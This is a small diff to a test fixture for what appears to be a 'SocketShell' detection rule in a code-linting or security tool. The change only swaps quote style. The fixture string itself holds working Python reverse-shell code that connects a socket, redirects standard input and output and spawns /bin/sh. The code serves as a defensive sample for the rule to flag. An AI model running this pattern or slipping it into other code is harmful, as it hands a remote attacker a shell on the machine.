@@ -67,7 +67,7 @@ class SocketShell(Rule):
     )
     INVALID = (
         Invalid(
-            'import os, pty, socket\ndef connect(host, port):\n    s = socket.socket()\n    s.connect((host, port))\n'
+            "import os, pty, socket\ndef connect(host, port):\n    s = socket.socket()\n    s.connect((host, port))\n"
             '    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    pty.spawn("/bin/sh")\n'
         ),
         Invalid(
